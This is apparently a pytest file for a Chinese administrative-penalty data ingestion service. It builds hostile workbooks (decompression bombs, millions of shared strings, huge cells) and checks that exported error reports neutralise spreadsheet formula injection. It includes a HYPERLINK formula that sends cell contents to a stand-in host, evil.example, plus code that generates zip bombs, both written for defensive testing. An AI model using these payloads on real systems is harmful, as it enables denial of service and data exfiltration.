"""Files from outside are read within bounds (issue 20, items 1, 5, 10 and 12): workbooks
built to exhaust the server are refused with a clear message while the server process stays
small; exported cells never run as formulas; a failed batch leaves nothing behind; Excel's
"Unicode 文本" is read; messages never name the server's temporary files.

The hostile workbooks are written here, a zip member at a time in small pieces, so they are
small on disk and in this process."""

from __future__ import annotations

import codecs
import csv
import resource
import time
import zipfile
from collections.abc import Iterable, Iterator
from datetime import date
from itertools import chain
from pathlib import Path
from xml.sax.saxutils import escape

import psutil
import pytest
from openpyxl import Workbook, load_workbook
from sqlalchemy import Engine, text

from xinyong.core.cells import safe_text
from xinyong.core.errors import BadFile
from xinyong.core.settings import get_settings
from xinyong.ingest import service
from xinyong.ingest.readers import open_table

from ..factories import penalty

DEPT = "厦门市思明区市场监督管理局"
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PKG = "http://schemas.openxmlformats.org/package/2006/relationships"
GROWTH_LIMIT = 150 << 20  # what reading a hostile workbook may add to this process, at most


def _members(shared: bool) -> dict[str, str]:
    strings = ('<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/'
               '2006/relationships/sharedStrings" Target="sharedStrings.xml"/>') if shared else ""
    return {
        "[Content_Types].xml": (
            '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
            'content-types"><Default Extension="xml" ContentType="application/xml"/></Types>'),
        "_rels/.rels": (
            f'<?xml version="1.0"?><Relationships xmlns="{PKG}"><Relationship Id="rId1" '
            'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
            'officeDocument" Target="xl/workbook.xml"/></Relationships>'),
        "xl/workbook.xml": (
            f'<?xml version="1.0"?><workbook xmlns="{MAIN}" xmlns:r="{RELS}"><sheets>'
            '<sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>'),
        "xl/_rels/workbook.xml.rels": (
            f'<?xml version="1.0"?><Relationships xmlns="{PKG}"><Relationship Id="rId1" '
            'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" '
            f'Target="worksheets/sheet1.xml"/>{strings}</Relationships>'),
    }


def workbook(path: Path, sheet: Iterable[str], strings: Iterable[str] | None = None) -> Path:
    """A workbook whose sheet XML and shared strings XML are the pieces given, streamed."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as book:
        for name, content in _members(strings is not None).items():
            book.writestr(name, content)
        with book.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as f:
            for piece in sheet:
                f.write(piece.encode())
        if strings is not None:
            with book.open("xl/sharedStrings.xml", "w", force_zip64=True) as f:
                for piece in strings:
                    f.write(piece.encode())
    return path


def sheet_of(rows: Iterable[str], dimension: str = "") -> Iterator[str]:
    yield f'<?xml version="1.0"?><worksheet xmlns="{MAIN}">{dimension}<sheetData>'
    yield from rows
    yield "</sheetData></worksheet>"


def inline_row(n: int, values: Iterable[str]) -> str:
    cells = "".join(f'<c t="inlineStr"><is><t>{escape(v)}</t></is></c>' for v in values)
    return f'<row r="{n}">{cells}</row>'


def repeated(piece: str, times: int, per_write: int = 1 << 16) -> Iterator[str]:
    block = piece * per_write
    full, rest = divmod(times, per_write)
    for _ in range(full):
        yield block
    yield piece * rest


class Footprint:
    """How much this process grows while reading: resident size now and its high-water mark
    (the mark cannot be reset, so growth past the mark so far is what counts)."""

    def __enter__(self) -> Footprint:
        self.rss = psutil.Process().memory_info().rss
        self.peak = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss << 10
        return self

    def __exit__(self, *_: object) -> None:
        rss = psutil.Process().memory_info().rss
        peak = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss << 10
        self.grew = max(rss - self.rss, peak - max(self.peak, self.rss))


def refused(path: Path) -> str:
    with Footprint() as footprint, pytest.raises(BadFile) as caught:
        open_table(path, "报送.xlsx").close()
    assert footprint.grew < GROWTH_LIMIT, footprint.grew
    message = caught.value.message
    assert "报送.xlsx" in message and path.name not in message and "/tmp" not in message
    return message


# --- item 1: hostile workbooks ----------------------------------------------------------------

def test_one_cell_inflating_to_many_megabytes_is_refused_by_the_cell_limit(tmp_path: Path) -> None:
    strings = ['<?xml version="1.0"?><sst xmlns="' + MAIN + '"><si><t>',
               *repeated("A", 60 << 20), "</t></si></sst>"]
    sheet = sheet_of(['<row r="1"><c t="s"><v>0</v></c></row>'])
    path = workbook(tmp_path / "cell.xlsx", sheet, strings)
    assert path.stat().st_size < 1 << 20
    assert "32767 个字符" in refused(path)


def test_a_member_inflating_past_the_cap_is_refused_while_inflating(tmp_path: Path) -> None:
    # 300 MB of blanks between rows: no cell grows, the member does.
    sheet = sheet_of([inline_row(1, ["a"]), *repeated(" ", 300 << 20), inline_row(2, ["b"])])
    path = workbook(tmp_path / "member.xlsx", sheet)
    assert path.stat().st_size < 2 << 20
    message = refused(path)
    assert "解压后超过 256 MiB" in message and "压缩炸弹" in message


def test_millions_of_shared_strings_are_refused(tmp_path: Path) -> None:
    strings = ['<?xml version="1.0"?><sst xmlns="' + MAIN + '">',
               *repeated("<si><t>x</t></si>", 5_000_000), "</sst>"]
    path = workbook(tmp_path / "strings.xlsx", sheet_of([inline_row(1, ["a"])]), strings)
    assert path.stat().st_size < 1 << 20
    assert "共享字符串超过 2000000 个" in refused(path)


def test_hundreds_of_thousands_of_one_cell_rows_are_refused(tmp_path: Path) -> None:
    rows = (f'<row r="{n}"><c r="A{n}" t="inlineStr"><is><t>x</t></is></c></row>'
            for n in range(1, 300_001))
    path = workbook(tmp_path / "rows.xlsx", sheet_of(rows))
    assert path.stat().st_size < 2 << 20
    assert "超过 200000 行" in refused(path)


def test_a_cell_far_to_the_right_is_refused_by_the_column_limit(tmp_path: Path) -> None:
    path = workbook(tmp_path / "wide.xlsx", sheet_of(
        ['<row r="1"><c r="XFD1" t="inlineStr"><is><t>x</t></is></c></row>']))
    assert "超过 512 列" in refused(path)


def test_a_false_dimension_is_ignored(tmp_path: Path) -> None:
    """20,000 × 16,384 declared, two rows present: read as the two rows, no more."""
    row = penalty()
    sheet = sheet_of([inline_row(1, row), inline_row(2, row.values())],
                     '<dimension ref="A1:XFD20000"/>')
    path = workbook(tmp_path / "dimension.xlsx", sheet)
    with Footprint() as footprint:
        table = open_table(path, "报送.xlsx")
        rows = list(table.rows)
        table.close()
    assert footprint.grew < GROWTH_LIMIT
    assert table.header == list(row) and [r.cells for r in rows] == [list(row.values())]


def test_a_workbook_past_the_memory_limit_is_refused(tmp_path: Path,
                                                     monkeypatch: pytest.MonkeyPatch) -> None:
    """Bounds aside, the child's address space is limited: a workbook that needs more is
    refused with the limit named (here the limit is set below what the shared strings take)."""
    monkeypatch.setenv("XINYONG_XLSX_MEMORY_MIB", "120")
    get_settings.cache_clear()
    strings = chain(['<?xml version="1.0"?><sst xmlns="' + MAIN + '">'],
                    (f"<si><t>{n:07d}{'y' * 400}</t></si>" for n in range(300_000)), ["</sst>"])
    path = workbook(tmp_path / "memory.xlsx", sheet_of([inline_row(1, ["a"])]), strings)
    assert "120 MiB" in refused(path)


def test_a_refused_workbook_stores_nothing_and_is_audited(engine: Engine, tmp_path: Path) -> None:
    strings = ['<?xml version="1.0"?><sst xmlns="' + MAIN + '">',
               *repeated("<si><t>x</t></si>", 2_100_000), "</sst>"]
    path = workbook(tmp_path / "0f3a9c.xlsx", sheet_of([inline_row(1, ["a"])]), strings)
    with pytest.raises(BadFile) as caught:
        service.ingest_file(engine, path, DEPT, filename="处罚.xlsx")
    assert "处罚.xlsx" in caught.value.message and "0f3a9c" not in caught.value.message
    with engine.connect() as conn:
        assert conn.execute(text("SELECT COUNT(*) FROM batch")).scalar_one() == 0
        events = conn.execute(text("SELECT action, detail FROM audit_event")).all()
    assert [e[0] for e in events] == ["batch.refused"]
    assert "共享字符串" in events[0][1] and "处罚.xlsx" in events[0][1]
    files = get_settings().files_dir
    assert not [p for p in (files / "tmp").iterdir()]
    assert not (files / "batches").exists() or not list((files / "batches").iterdir())


def test_a_stored_rejection_keeps_a_huge_cell_only_in_part(engine: Engine, tmp_path: Path) -> None:
    row = penalty(**{"违法事实": "违" * 30_000})
    path = tmp_path / "p.csv"
    with path.open("w", encoding="utf-8", newline="") as f:
        w = csv.writer(f)
        w.writerow(list(row))
        w.writerow(list(row.values()))
    receipt = service.ingest_file(engine, path, DEPT, received=date(2025, 2, 10))
    assert receipt.rejected == 1
    with engine.connect() as conn:
        raw = conn.execute(text("SELECT raw FROM rejection")).scalar_one()
    assert len(raw) < 12_000 and "已截断" in raw


# --- item 5: exported cells are inert ------------------------------------------------------------

FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A2,\"点此\")", "=1+1", "@SUM(1)", "+1+2",
            "-1+2", "\t=1+1", "\r=1+1"]


def _hostile_rows() -> list[dict[str, str]]:
    """Rows that fail validation (a bad decision date), their text the formulas."""
    return [penalty(**{"行政处罚决定书文号": f"罚〔2025〕{n}号", "处罚决定日期": "不是日期",
                       "违法事实": formula, "行政相对人名称": formula})
            for n, formula in enumerate(FORMULAS)]


def test_the_csv_error_report_writes_formulas_as_text(engine: Engine, tmp_path: Path) -> None:
    rows = _hostile_rows()
    path = tmp_path / "p.csv"
    with path.open("w", encoding="utf-8", newline="") as f:
        w = csv.writer(f)
        w.writerow(list(rows[0]))
        w.writerows([list(r.values()) for r in rows])
    receipt = service.ingest_file(engine, path, DEPT, received=date(2025, 2, 10))
    assert receipt.rejected == len(FORMULAS) and receipt.error_report
    with open(receipt.error_report, encoding="utf-8-sig", newline="") as f:
        report = list(csv.DictReader(f))
    for line, formula in zip(report, FORMULAS, strict=True):
        assert line["违法事实"] == "'" + formula and line["行政相对人名称"] == "'" + formula
        assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in line.values() if v)


def test_the_xlsx_error_report_writes_formulas_as_strings(engine: Engine, tmp_path: Path) -> None:
    rows = _hostile_rows()
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(list(rows[0]))
    for n, r in enumerate(rows, start=2):
        for col, value in enumerate(r.values(), start=1):
            sheet.cell(n, col, value).data_type = "s"  # as text, the way a department typed it
    book.save(tmp_path / "p.xlsx")
    receipt = service.ingest_file(engine, tmp_path / "p.xlsx", DEPT, received=date(2025, 2, 10))
    assert receipt.rejected == len(FORMULAS) and receipt.error_report
    with zipfile.ZipFile(receipt.error_report) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<f " not in xml
    report = load_workbook(receipt.error_report).worksheets[0]
    header = [c.value for c in report[1]]
    column = header.index("违法事实")
    cells = [line[column] for line in report.iter_rows(min_row=2)]
    # (XML reads a carriage return in text as a line feed: the cell stays text either way)
    assert [c.value for c in cells] == [f.replace("\r", "\n") for f in FORMULAS]
    assert {c.data_type for c in cells} == {"s"}


def test_safe_text_leaves_plain_numbers_and_text_alone() -> None:
    assert [safe_text(v) for v in ("-5", "+3.2", "厦门", None, 7, "=1")] == [
        "-5", "+3.2", "厦门", "", "7", "'=1"]


# --- item 10: leftovers ---------------------------------------------------------------------

def test_the_startup_sweep_clears_leftovers_and_finishes_a_committed_batch(
        engine: Engine, tmp_path: Path) -> None:
    path = tmp_path / "p.csv"
    with path.open("w", encoding="utf-8", newline="") as f:
        w = csv.writer(f)
        w.writerow(list(penalty()))
        w.writerow(list(penalty().values()))
    receipt = service.ingest_file(engine, path, DEPT, received=date(2025, 2, 10))
    files = get_settings().files_dir
    # As a crash would leave them: the committed batch's folder not yet moved, a rolled-back
    # batch's folder, a converted workbook and an upload received by the API.
    done = files / "batches" / str(receipt.batch)
    moved = files / "tmp" / f"batch-{receipt.batch}-{'a' * 32}"
    done.rename(moved)
    dead = files / "tmp" / f"batch-{receipt.batch + 1}-{'b' * 32}"
    dead.mkdir()
    (dead / "source.csv").write_bytes(b"x" * 1000)
    (files / "tmp" / "c.xrows").write_bytes(b"x")
    (files / "uploads").mkdir(exist_ok=True)
    (files / "uploads" / "d.csv").write_bytes(b"x")
    fresh = files / "tmp" / "e.xrows"  # another process's work in progress
    fresh.write_bytes(b"x")
    old = time.time() - 2 * service.STALE_SECONDS
    for entry in (moved, *moved.iterdir(), dead, *dead.iterdir(), files / "tmp" / "c.xrows",
                  files / "uploads" / "d.csv"):
        import os

        os.utime(entry, (old, old))
    assert service.sweep(engine) == {"removed": 3, "settled": 1}
    assert sorted(p.name for p in (files / "tmp").iterdir()) == ["e.xrows"]
    assert not list((files / "uploads").iterdir())
    assert (done / "source.csv").exists()


# --- item 12: Excel's "Unicode 文本" ----------------------------------------------------------

def test_utf16_text_from_excel_is_read_as_a_table(engine: Engine, tmp_path: Path) -> None:
    row = penalty()
    text_ = "\t".join(row) + "\r\n" + "\t".join(row.values()) + "\r\n"
    path = tmp_path / "unicode.txt"
    path.write_bytes(codecs.BOM_UTF16_LE + text_.encode("utf-16-le"))
    receipt = service.ingest_file(engine, path, DEPT, received=date(2025, 2, 10))
    assert (receipt.rows, receipt.accepted, receipt.encoding) == (1, 1, "utf-16")


def test_a_small_workbook_is_read_whole_within_the_same_bounds(tmp_path: Path) -> None:
    """`xlsx.workbook_rows`, for features that read a short list from a workbook."""
    from xinyong.core.xlsx import workbook_rows

    good = workbook(tmp_path / "list.xlsx", sheet_of([inline_row(1, ["名称"]),
                                                      inline_row(3, ["厦门", "x"])]))
    assert workbook_rows(good, "名单.xlsx") == [["名称"], ["厦门", "x"]]
    wide = workbook(tmp_path / "wide.xlsx", sheet_of(
        ['<row r="1"><c r="XFD1" t="inlineStr"><is><t>x</t></is></c></row>']))
    with pytest.raises(BadFile, match=r"名单\.xlsx.*超过 512 列"):
        workbook_rows(wide, "名单.xlsx")
